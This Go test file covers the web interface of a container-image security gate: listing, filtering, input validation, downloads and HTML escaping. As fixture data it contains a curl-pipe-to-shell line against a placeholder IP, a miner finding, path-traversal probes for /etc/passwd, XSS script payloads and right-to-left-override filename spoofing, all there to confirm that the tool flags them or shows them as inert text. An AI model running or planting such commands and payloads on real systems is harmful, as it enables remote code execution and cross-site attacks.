package page_test

import (
	"bufio"
	"encoding/json"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/tidewaiter/tidewaiter/gate"
)

func TestPushesAreShownNewestFirst(t *testing.T) {
	w := newWorld(t, nil)
	ada := w.ada()
	w.shows(ada, "/", "Nothing was pushed yet", "Nothing was judged in the last 30 days")
	w.ago(50 * time.Hour)
	w.judged("shop/allowed", "1.0")
	w.ago(0)
	w.judged("shop/denied", "2.0")
	w.judged("shop/broken", "3.0")
	body := w.shows(ada, "/", "Denied", "Allowed", "Not judged", "1 denied, 1 not judged, 1 allowed", "image/miner", "2 d ago")
	first, last := strings.Index(body, ">shop/broken<"), strings.Index(body, ">shop/allowed<")
	if first < 0 || last < first {
		t.Errorf("shop/broken is at %d and shop/allowed at %d: the newest must come first", first, last)
	}
	if n := strings.Count(body, `<tr id="v-`); n != 3 {
		t.Errorf("%d rows, want 3", n)
	}
}

func TestFilter(t *testing.T) {
	w := newWorld(t, nil)
	w.ago(50 * time.Hour)
	w.judged("shop/allowed", "1.0")
	w.ago(0)
	w.judged("shop/denied", "2.0")
	w.judged("tools/broken", "3.0")
	ada := w.ada()
	today := time.Now().UTC().Format(time.DateOnly)
	for query, want := range map[string][]string{
		"q=tools":                       {"broken"},
		"repository=shop%2Fdenied":      {"denied"},
		"tag=1.0":                       {"allowed"},
		"verdict=deny":                  {"denied", "broken"}, // what nobody could judge is denied
		"verdict=allow":                 {"allowed"},
		"verdict=undecided":             {"broken"},
		"rule=image%2Fminer":            {"denied"},
		"since=" + today:                {"denied", "broken"},
		"until=2020-01-01":              {},
		"until=" + today:                {"denied", "broken", "allowed"},
		"q=shop&tag=2.0&since=" + today: {"denied"},
	} {
		body := w.shows(ada, "/?"+query)
		_, list, _ := strings.Cut(body, `data-live="list"`)
		var got []string
		for _, name := range []string{"denied", "broken", "allowed"} {
			if strings.Contains(list, "/"+name+"</a>") {
				got = append(got, name)
			}
		}
		if strings.Join(got, " ") != strings.Join(want, " ") {
			t.Errorf("%s shows %q, want %q", query, got, want)
		}
	}
	for _, query := range []string{"verdict=maybe", "since=yesterday", "until=0001-01-01", "q=" + strings.Repeat("x", 201), "q=%ff", "q=%00", "rule=%00"} {
		if response, _ := w.get(ada, "/?"+query); response.StatusCode != http.StatusBadRequest {
			t.Errorf("%.40s: %s, want 400", query, response.Status)
		}
	}
}

func TestImageShowsWhyAndWhere(t *testing.T) {
	w := newWorld(t, nil)
	ada := w.ada()
	before := w.judged("shop/allowed", "1.0")
	v := w.judged("shop/denied", "1.0")
	path := imagePath(v.Image)
	body := w.shows(ada, path,
		"Denied", "2 findings deny", "Above all: /usr/bin/metrics-helper is a miner", "RUN /bin/sh -c curl -fsSL https://203.0.113.7/agent",
		"https://attack.mitre.org/techniques/T1496/001/", "Do not deploy the image", "curl -fsSL https://203.0.113.7/run.sh | sh",
		"busybox", "135", "Shown here, because it was pushed", ">1.0<")
	severities := regexp.MustCompile(`<span class="severity (\w+)"`).FindAllStringSubmatch(body, -1)
	order := map[string]int{"critical": 0, "high": 1, "medium": 2, "low": 3}
	for i := 1; i < len(severities); i++ {
		if order[severities[i][1]] < order[severities[i-1][1]] {
			t.Errorf("%s stands below %s", severities[i][1], severities[i-1][1])
		}
	}
	w.shows(ada, imagePath(before.Image), "Allowed", "linux/amd64, linux/arm64", "2 subjects checked")
	found := w.shows(ada, path+"?package=LODASH", "4.17.21")
	if strings.Contains(found, "busybox") {
		t.Error("the search for lodash shows busybox")
	}
	next := regexp.MustCompile(`href="([^"]*after=[^"]+)#packages">Next`).FindStringSubmatch(w.shows(ada, path))
	if next == nil {
		t.Fatal("135 packages have no second page")
	}
	w.shows(ada, strings.ReplaceAll(next[1], "&amp;", "&"), "lib060", "First")
}

func TestDeadJobsAreShownAndCanBeAskedForAgain(t *testing.T) {
	w := newWorld(t, nil)
	ada := w.ada()
	v := w.judged("shop/broken", "1.0")
	w.shows(ada, "/queue", "Denied because nobody could judge them", "shop/broken", `\x1b[31mhas 212 bytes`, "&lt;b&gt;layer 3")
	body := w.shows(ada, imagePath(v.Image), "Not judged", "Denied, because nobody could judge it: 1 attempt failed", "There is no report of it", "Judge again")
	if strings.Contains(body, "download>") {
		t.Error("there is something to download of an image that was never read")
	}
	if response, _ := w.post(ada, "/again", url.Values{"image": {v.Image.String()}}); response.StatusCode != http.StatusSeeOther {
		t.Errorf("judge again: %s", response.Status)
	}
	if response, _ := w.post(ada, "/again", url.Values{"image": {host + "/never/seen@" + v.Digest}}); response.StatusCode != http.StatusNotFound {
		t.Errorf("judge what was never pushed: %s, want 404", response.Status)
	}
}

func TestOlderJudgementsAreMarked(t *testing.T) {
	w := newWorld(t, nil)
	ada := w.ada()
	v, other := w.judged("shop/denied", "1.0"), w.judged("shop/allowed", "1.0")
	w.shows(ada, imagePath(v.Image)+"?verdict="+v.ID, "This is not the newest judgement")
	for _, path := range []string{
		imagePath(v.Image) + "?verdict=" + other.ID, // another image's
		imagePath(v.Image) + "?verdict=../../x",
		"/image/" + host + "/shop/denied@sha256:" + strings.Repeat("0", 64),
		"/image/x", "/image/" + host + "/../../etc/passwd", "/verdict/" + v.ID + "/passwd", "/verdict/x/report.json", "/nothing", "/assets/page.go",
	} {
		if response, _ := w.get(ada, path); response.StatusCode != http.StatusNotFound && response.StatusCode/100 != 3 {
			t.Errorf("GET %s: %s, want 404", path, response.Status)
		}
	}
}

func TestDownloads(t *testing.T) {
	w := newWorld(t, nil)
	ada := w.ada()
	v := w.judged("shop/hostile", "1.0")
	for file, kind := range map[string]string{"report.json": "application/json", "sbom.json": "application/vnd.cyclonedx+json"} {
		response, body := w.get(ada, "/verdict/"+v.ID+"/"+file)
		header := response.Header
		want := `attachment; filename="hostile-` + v.Digest[7:19] + "." + file + `"`
		if response.StatusCode != http.StatusOK || header.Get("Content-Type") != kind || header.Get("Content-Disposition") != want || header.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("%s: %s %v", file, response.Status, header)
		}
		if !json.Valid([]byte(body)) {
			t.Errorf("%s is no JSON", file)
		}
	}
	_, body := w.get(ada, "/verdict/"+v.ID+"/report.json")
	var report gate.Report
	if err := json.Unmarshal([]byte(body), &report); err != nil || report.Verdict != gate.Deny || strings.ContainsRune(body, '\u202e') {
		t.Errorf("the report: %v, %s", err, report.Verdict)
	}
}

// What an image says of itself is text on every page, and visible.
func TestHostileStringsStayText(t *testing.T) {
	w := newWorld(t, nil)
	ada := w.ada()
	v := w.judged("shop/hostile", "v1.0")
	w.judged("shop/broken", "1.0")
	for _, path := range []string{"/", "/queue", imagePath(v.Image), imagePath(v.Image) + "?package=script", "/?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E%E2%80%AE", "/?rule=user/%3Cscript%3E"} {
		body := w.shows(ada, path)
		for _, raw := range []string{"<script>", "<img src=x", "<b>layer", "\u202e", "\u2066", "\u200b", "\u2028", "\x1b", "\x00", "href=\"javascript", "style=\"", "onerror=\""} {
			if strings.Contains(body, raw) {
				t.Errorf("GET %s has %q", path, raw)
			}
		}
	}
	w.shows(ada, imagePath(v.Image), `\u202egnp.exe`, `\x1b[2J`, "&lt;script&gt;document.title=", "{{.Who}}", "Waived until 2027-03-01")
}

// TestOldPage: what happens between the reading of a page and the beginning of its stream is told to it.
func TestOldPage(t *testing.T) {
	w := newWorld(t, nil)
	ada := w.ada()
	lists := func() string { return between(t, w.shows(ada, "/"), `data-lists="`, `"`) }
	hello := func() string {
		t.Helper()
		response, err := ada.Get(w.server.URL + "/live")
		if err != nil {
			t.Fatal(err)
		}
		defer response.Body.Close()
		lines := bufio.NewScanner(response.Body)
		for lines.Scan() {
			if data, ok := strings.CutPrefix(lines.Text(), "data: "); ok {
				return data
			}
		}
		t.Fatal("the stream says nothing")
		return ""
	}
	before := lists()
	if now := hello(); now != before {
		t.Errorf("nothing happened, and the stream begins with %s after a page of %s", now, before)
	}
	w.judged("shop/allowed", "1.0")
	for late := time.Now().Add(20 * time.Second); hello() == before; time.Sleep(20 * time.Millisecond) { // until the hub is told
		if time.Now().After(late) {
			t.Fatal("the old page hears nothing of a verdict")
		}
	}
}
